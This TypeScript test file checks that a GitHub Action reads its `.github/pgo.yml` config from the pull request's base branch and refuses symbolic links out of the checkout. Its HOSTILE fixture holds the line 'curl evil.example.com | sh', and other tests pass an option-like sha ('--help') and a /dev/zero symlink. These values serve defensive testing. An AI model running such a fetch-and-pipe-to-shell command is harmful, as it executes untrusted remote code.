import { mkdir, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type RawInputs, type Run, readRun } from '../../src/settings/read.ts';
import { ExpectedError } from '../../src/system/errors.ts';
import { type GitHubHarness, startGitHub } from '../harness/github/start.ts';
import { temporaryFolder } from '../harness/temporary.ts';

/** On a pull request, the config file that counts is the accepted one: that of the base. */

type Files = Readonly<Record<string, string>>;

const FILE = '.github/pgo.yml';
const ACCEPTED = 'min-samples: 111\n';
const HOSTILE = 'min-samples: 666\nserve: curl evil.example.com | sh\n';

let github: GitHubHarness;
let branches = 0;
beforeAll(async () => {
  github = await startGitHub({ files: { [FILE]: ACCEPTED } });
});
afterAll(async () => {
  await github[Symbol.asyncDispose]();
  github.expectNoViolations();
});

interface Scene extends AsyncDisposable {
  /** The checkout. */
  readonly root: string;
  write(files: Files): Promise<void>;
  /** What a run for this event is to do. */
  read(raw?: Partial<RawInputs>, options?: Reading): Promise<Run>;
}

interface Reading {
  readonly event?: string;
  readonly pull?: Readonly<Record<string, unknown>>;
  readonly env?: Readonly<Record<string, string>>;
  readonly token?: string;
}

/** A checkout, and a base on GitHub with other files. */
async function sceneWith({ base, checkout }: { base: Files; checkout: Files }): Promise<Scene> {
  const folder = await temporaryFolder();
  const root = join(folder.path, 'work');
  const write: Scene['write'] = async (files) => {
    for (const [name, text] of Object.entries(files)) {
      await mkdir(dirname(join(root, name)), { recursive: true });
      await writeFile(join(root, name), text);
    }
  };
  await write({ '.git/HEAD': '', 'go.mod': 'module example.com/shop\n', ...checkout });
  branches += 1;
  const sha = await github.emulator.commit(github.repository, `base-${branches}`, { 'go.mod': '', ...base });
  return {
    root,
    write,
    async read(raw = {}, { event = 'pull_request', pull = {}, env = {}, ...how } = {}) {
      const path = join(folder.path, 'event.json');
      const pull_request = { number: 7, merged: false, base: { ref: 'main', sha }, ...pull };
      await writeFile(path, JSON.stringify(event.startsWith('pull_request') ? { pull_request } : {}));
      const token = 'token' in how ? how.token : github.token;
      const all = {
        ...{ GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: path, GITHUB_API_URL: github.url },
        ...{ GITHUB_REPOSITORY: github.repository, GITHUB_WORKSPACE: root, ...env },
      };
      return readRun({ settings: {}, ...raw, token }, { cwd: root, env: all, mask: () => {} }, 'check');
    },
    [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose](),
  };
}

async function minSamples(run: Run): Promise<number | undefined> {
  return (await run.targets[0]?.config())?.minSamples;
}

const notes = ({ findings }: Run) => findings.map(({ severity, message }) => `${severity}: ${message}`);
const CHANGED = [
  `note: \`${FILE}\` is read from \`main\`, the base of this pull request: what the pull request changes in it counts once it is merged.`,
];
const ADDED = [
  `note: \`${FILE}\` is not on \`main\` yet: what this pull request says in it counts once it is merged.`,
];

async function refusal(reading: Promise<unknown>): Promise<string> {
  const outcome = await reading.catch((error: unknown) => error);
  if (outcome instanceof ExpectedError) return `${outcome.exitCode}: ${outcome.message} ${outcome.fix}`;
  throw new Error('it was accepted', { cause: outcome });
}

const changed = () => sceneWith({ base: { [FILE]: ACCEPTED }, checkout: { [FILE]: HOSTILE } });

test.each(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'])(
  'a changed file has no say on %s',
  async (event) => {
    await using scene = await changed();
    const run = await scene.read({}, { event });
    expect(await minSamples(run)).toBe(111);
    expect(notes(run)).toEqual(CHANGED);
  },
);

test.each<[string, Reading]>([
  ['push', { event: 'push' }],
  ['schedule', { event: 'schedule' }],
  ['merge_group', { event: 'merge_group' }],
  ['no event', { event: '' }],
  ['a merged pull request', { pull: { merged: true } }],
  ['a merged pull request of Gitea', { pull: { merged: undefined, merged_at: '2026-11-20T06:00:00Z' } }],
])('what is checked out counts on %s', async (_what, reading) => {
  await using scene = await changed();
  const run = await scene.read({}, reading);
  expect([await minSamples(run), notes(run)]).toEqual([666, []]);
});

test('the same file with other line ends needs no note', async () => {
  const checkout = { [FILE]: ACCEPTED.replaceAll('\n', '\r\n') };
  await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout });
  expect(notes(await scene.read())).toEqual([]);
});

test('a new file counts once it is merged, and a deleted one still counts', async () => {
  await using added = await sceneWith({ base: {}, checkout: { [FILE]: HOSTILE } });
  const run = await added.read();
  expect([await minSamples(run), notes(run)]).toEqual([100, ADDED]);
  await using deleted = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: {} });
  const other = await deleted.read();
  expect([await minSamples(other), notes(other)]).toEqual([111, CHANGED]);
});

test('a file in the working directory hides that of the root only if it was accepted', async () => {
  const svc = { 'svc/go.mod': 'module m\n', [`svc/${FILE}`]: HOSTILE };
  await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: { [FILE]: ACCEPTED, ...svc } });
  expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
  await using later = await sceneWith({ base: { [FILE]: ACCEPTED, ...svc }, checkout: svc });
  expect(await minSamples(await later.read({ workingDirectory: 'svc' }))).toBe(666);
});

test('a named file is that of the base, too, and one outside of the checkout is as it is', async () => {
  const base = { 'ci/pgo.yaml': ACCEPTED };
  await using scene = await sceneWith({ base, checkout: { 'ci/pgo.yaml': HOSTILE, 'ci/new.yaml': HOSTILE } });
  expect(await minSamples(await scene.read({ config: 'ci/pgo.yaml' }))).toBe(111);
  expect(await minSamples(await scene.read({ config: join(scene.root, 'ci/pgo.yaml') }))).toBe(111);
  expect(await refusal(scene.read({ config: 'ci/new.yaml' }))).toBe(
    '2: config: there is no file `ci/new.yaml on main`. Name an existing file, or leave `config` out. On a pull request, a new one counts once it is merged.',
  );
  const beside = join(scene.root, '..', 'made.yml');
  await writeFile(beside, 'min-samples: 333');
  expect(await minSamples(await scene.read({ config: beside }))).toBe(333);
});

test('targets are those of the base, with their folders in the checkout', async () => {
  const targets = 'targets: [{ name: api, working-directory: api, min-samples: 11 }, { name: mail }]\n';
  const checkout = {
    [FILE]: targets.replace('11', '99').replace('mail', 'post'),
    'api/go.mod': 'module a\n',
  };
  await using scene = await sceneWith({ base: { [FILE]: targets }, checkout });
  const run = await scene.read();
  expect(run.targets.map(({ name }) => name)).toEqual(['api', 'mail']);
  const api = await run.targets[0]?.config();
  expect(api).toMatchObject({ target: 'api', minSamples: 11, workingDirectory: join(scene.root, 'api') });
});

test('errors name the branch whose file it is', async () => {
  await using scene = await sceneWith({
    base: { [FILE]: 'min-sampels: 5\n' },
    checkout: { [FILE]: ACCEPTED },
  });
  expect(await refusal(scene.read())).toContain(`${FILE} on main: `);
});

test('a folder on the base is not a config file', async () => {
  await using scene = await sceneWith({ base: { [`${FILE}/x`]: '' }, checkout: {} });
  expect(await refusal(scene.read())).toContain(`2: config: \`${FILE}\` is not a file on \`main\``);
});

describe('folders that a pull request replaces', () => {
  test('a link instead of the file is not followed', async () => {
    await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: { '.github/x': '' } });
    // Reading it would never end.
    await symlink('/dev/zero', join(scene.root, FILE));
    expect(await minSamples(await scene.read())).toBe(111);
  });

  test('a submodule with its own config file has no say', async () => {
    const svc = { 'svc/.git': 'gitdir: ../.git/modules/svc', [`svc/${FILE}`]: HOSTILE };
    await using scene = await sceneWith({ base: { [FILE]: ACCEPTED }, checkout: svc });
    expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
  });

  test('a link to the root does not make the root’s file that of the folder', async () => {
    const base = { [FILE]: 'min-samples: 444', [`svc/${FILE}`]: ACCEPTED };
    await using scene = await sceneWith({ base, checkout: {} });
    await symlink('.', join(scene.root, 'svc'));
    expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
  });

  /** `svc` leads out of the checkout. */
  async function linked(): Promise<Scene> {
    const base = { [FILE]: 'targets: [{ name: api, working-directory: svc }]' };
    const scene = await sceneWith({ base, checkout: {} });
    await mkdir(join(scene.root, '..', 'outside', 'deep'), { recursive: true });
    await symlink('../outside', join(scene.root, 'svc'));
    return scene;
  }
  const config = (run: Run) => run.targets[0]?.config();

  test.each<[string, Partial<RawInputs>]>([
    ['working-directory: svc/deep', { workingDirectory: 'svc/deep' }],
    ['targets[0] (api): working-directory: svc', {}],
    [
      'output-directory: svc/new/folder',
      { config: false, settings: { 'output-directory': 'svc/new/folder' } },
    ],
    ['body-path: svc/secret.txt', { config: false, settings: { 'body-path': 'svc/secret.txt' } }],
    ['profile: svc/default.pgo', { config: false, settings: { profile: 'svc/default.pgo' } }],
  ])('a link out of the checkout is refused: %s', async (said, raw) => {
    await using scene = await linked();
    const text = await refusal(scene.read(raw).then(config));
    expect(text).toContain(`${said} leads out of the checkout by a symbolic link`);
    // The owner's own links are the owner's.
    if (raw.settings !== undefined) await scene.read(raw, { event: 'push' }).then(config);
  });
});

describe('without the base', () => {
  test.each<[string, Reading, string]>([
    ['a token', { token: undefined as never }, "there is no token for GitHub's API. Set `token`"],
    ['a valid token', { token: 'ghs_wrong' }, "GitHub's API answered 401"],
    ['the commit', { pull: { base: { ref: 'main', sha: '1'.repeat(40) } } }, "GitHub's API answered 404"],
  ])('the run ends: without %s', async (_what, reading, said) => {
    await using scene = await changed();
    const text = await refusal(scene.read({}, reading));
    expect(text).toMatch(/^1: On a pull request the config file is read from its base, and commit /);
    expect(text).toContain(said);
    expect(text).toContain('permissions: { contents: read }');
  });

  test.each<[string, Reading]>([
    ['names no base', { pull: { base: undefined } }],
    ['names a branch', { pull: { base: { ref: 'main', sha: 'main' } } }],
    ['names an option', { pull: { base: { ref: 'main', sha: '--help' } } }],
    ['is not there', { env: { GITHUB_EVENT_PATH: '/nowhere/event.json' } }],
    ['has no path', { env: { GITHUB_EVENT_PATH: '' } }],
  ])('an event that %s ends it where the checkout has a config file', async (_what, reading) => {
    await using scene = await changed();
    expect(await refusal(scene.read({}, reading))).toMatch(
      /^1: On a pull request \.github\/pgo\.yml is read from its base, which is not known: /,
    );
    await rm(join(scene.root, FILE));
    expect(await minSamples(await scene.read({}, reading))).toBe(100);
  });
});
